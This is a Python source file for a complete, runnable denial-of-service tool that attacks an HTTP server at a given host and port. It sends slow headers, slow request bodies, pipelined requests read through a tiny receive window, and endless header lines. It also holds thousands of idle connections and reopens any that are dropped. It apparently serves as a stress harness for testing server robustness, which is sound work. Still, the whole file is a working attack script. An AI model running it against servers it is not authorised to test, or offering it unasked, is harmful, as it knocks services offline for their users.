# SPDX-License-Identifier: BSD-3-Clause
"""Bad clients of an HTTP server, all at once, from one process: slow heads, slow bodies, slow reading, heads without
end, and idle connections. Who is cut off comes back. Says "ready" when everybody is there once, and ends with its
stdin.

python3 -m versus.attackers HOST:PORT [--idle 10000]
"""

import argparse
import select
import socket
import sys

from versus import process

EACH = 100  # connections of each kind that is not idle
TICK_S = 0.1
MOST_OPENED_A_TICK = 200
ENDLESS = b"X-Filler: " + b"a" * 500 + b"\r\n"
GET = b"GET / HTTP/1.1\r\nHost: victim\r\n"
TINY_WINDOW = 4096


class Attacker:
    """One connection with its manner: what it says at first, and at every tick."""

    def __init__(self, address: tuple[str, int], first: bytes, then: bytes, ticks: int, reads: bool = True):
        self._address = address
        self._first, self._then, self._ticks, self._reads = first, then, ticks, reads
        self._age = 0
        self._socket: socket.socket | None = None

    def open(self) -> None:
        self._socket = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        try:
            self._socket.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\1\0\0\0\0\0\0\0")
            if not self._reads:
                self._socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, TINY_WINDOW)
            self._socket.connect(self._address)
            self._socket.setblocking(False)
            self._say(self._first)
        except OSError:
            self.close()

    def close(self) -> None:
        if self._socket:
            self._socket.close()
        self._socket = None

    def shutdown(self) -> None:
        """Says nothing more."""
        self._socket.shutdown(socket.SHUT_WR)

    @property
    def is_open(self) -> bool:
        return self._socket is not None

    def tick(self) -> None:
        """Goes on, if it is time; finds out whether it was cut off."""
        self._age += 1
        if self._age % self._ticks or not self._socket:
            return
        self._say(self._then)
        if self._socket and self._reads and not self._drain():
            self.close()

    def _drain(self) -> bool:
        """False when the other side has ended."""
        try:
            return bool(self._socket.recv(65536))
        except BlockingIOError:
            return True
        except OSError:
            return False

    def _say(self, words: bytes) -> None:
        try:
            if words:
                self._socket.send(words)
        except BlockingIOError:
            pass
        except OSError:
            self.close()


def attackers(address: tuple[str, int], idle: int) -> list[Attacker]:
    upload = b"POST / HTTP/1.1\r\nHost: victim\r\nContent-Length: 1000000\r\n\r\n"
    many = (GET + b"\r\n") * 200
    kinds = [
        lambda: Attacker(address, GET, b"X", 10),
        lambda: Attacker(address, upload, b"X", 10),
        lambda: Attacker(address, many, many, 1, reads=False),
        lambda: Attacker(address, GET, ENDLESS * 20, 1),
    ]
    return [kind() for kind in kinds for _ in range(EACH)] + [Attacker(address, GET + b"\r\n", b"", 50)
                                                              for _ in range(idle)]


def main() -> int:
    parser = argparse.ArgumentParser(description="Attacks an HTTP server until its stdin ends.")
    parser.add_argument("target", help="HOST:PORT")
    parser.add_argument("--idle", type=int, default=10_000, help="connections that ask once and stay (10000)")
    options = parser.parse_args()
    host, _, port = options.target.rpartition(":")
    process.raise_fd_limit()
    everybody = attackers((host, int(port)), options.idle)
    for one in everybody:
        one.open()
    print("ready", flush=True)
    while not select.select([sys.stdin], [], [], TICK_S)[0]:
        back = [one for one in everybody if not one.is_open][:MOST_OPENED_A_TICK]
        for one in back:
            one.open()
        for one in everybody:
            one.tick()
    for one in everybody:
        one.close()
    return 0


if __name__ == "__main__":
    sys.exit(main())
